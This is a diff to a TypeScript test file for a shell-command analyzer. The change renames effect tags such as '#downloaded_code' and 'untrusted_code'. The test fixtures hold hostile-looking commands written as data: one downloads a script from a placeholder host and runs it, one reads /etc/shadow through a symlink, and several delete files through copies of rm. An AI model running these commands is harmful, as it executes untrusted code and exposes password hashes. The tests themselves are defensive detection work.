@@ -26,7 +26,7 @@ const stories: Readonly<Record<string, readonly [command: string, wanted: string
   'a script written before': ["echo 'rm q' > s; sh s", 'delete /w/q'],
   'a script written line by line': ["echo 'cd a' > s; echo 'rm q' >> s; sh s", 'delete /w/a/q'],
   'a script in another language': ["echo '#!/usr/bin/env python3\nimport os; os.remove(1)' > s; ./s", 'unknown #inline_code'],
-  'a downloaded script': ['curl -o s https://a.example; sh ./s', 'execute #download_execute'],
+  'a downloaded script': ['curl -o s https://a.example; sh ./s', 'execute #downloaded_code'],
   'a copy of a program': ['cp /bin/rm p; ./p q', 'delete /w/q'],
   'a link to a program': ['ln -s /bin/rm p; ./p q', 'delete /w/q'],
   'a link to a folder': ['ln -s /etc d; cat d/shadow', 'read /w/d/shadow #secret'],
@@ -67,7 +67,7 @@ describe('analyzeShell, by its options', () => {
     const effects = analyzeShell('bash s.sh && ./t', { ...place, untrusted: new Set(['/w/s.sh', '/w/t']) });
 
     const marked = effects.filter(
-      ({ tags, target }) => target?.type === 'program' && tags?.includes('untrusted') === true && target.untrusted === true,
+      ({ tags, target }) => target?.type === 'program' && tags?.includes('untrusted_code') === true && target.untrusted === true,
     );
     expect(marked.length).toBe(2);
   });
